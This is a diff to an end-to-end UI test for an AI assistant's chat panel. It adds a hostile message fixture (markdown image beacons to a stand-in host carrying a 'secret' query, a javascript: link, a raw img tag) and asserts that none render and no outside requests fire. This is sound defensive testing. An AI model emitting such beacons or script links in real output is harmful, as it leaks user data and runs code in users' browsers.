@@ -37,6 +37,8 @@ const RICH = [
   LONG_WORD,
   '',
   'هذا جواب من اليمين إلى اليسار.',
+  '',
+  '![beacon](https://evil.test/p.png?q=secret) [press](javascript:alert(1)) <img src="https://evil.test/q.png">',
 ].join('\n')
 
 /** What the first journey of the assistant has no time for: what ends badly, exact times, odd texts, drafts, feedback. */
@@ -176,6 +178,10 @@ describe('Hero AI, looked at closely', () => {
 
   it('keeps tables, code, long words and text from the right in its 360 px, and groups what it rests on [S2.49]', async () => {
     const [account = '', tenant = ''] = /account\/([^/]+)\/tenant\/([^/]+)/.exec(demo.place)?.slice(1) ?? []
+    const outside: string[] = []
+    page.on('request', (request) => {
+      if (request.url().includes('evil.test')) outside.push(request.url())
+    })
     await read(() => ({
       messages: rich(RICH.replace('ACCOUNT', account).replace('TENANT', tenant)),
       answering: null,
@@ -184,6 +190,8 @@ describe('Hero AI, looked at closely', () => {
     const wider = () => log.evaluate((node) => node.scrollWidth - node.clientWidth)
     expect(await wider()).toBeLessThanOrEqual(0)
     await lookAt(page, 'hero-more-rich')
+    expect(await log.locator('img, svg[onload], [href^="javascript" i], [src]').count()).toBe(0)
+    expect(outside).toEqual([])
     const sources = log.getByRole('region', { name: 'Sources' })
     expect(await sources.getByRole('term').allTextContents()).toEqual(['Records', 'Runs', 'Help'])
     expect(await sources.getByRole('link').count()).toBe(4)
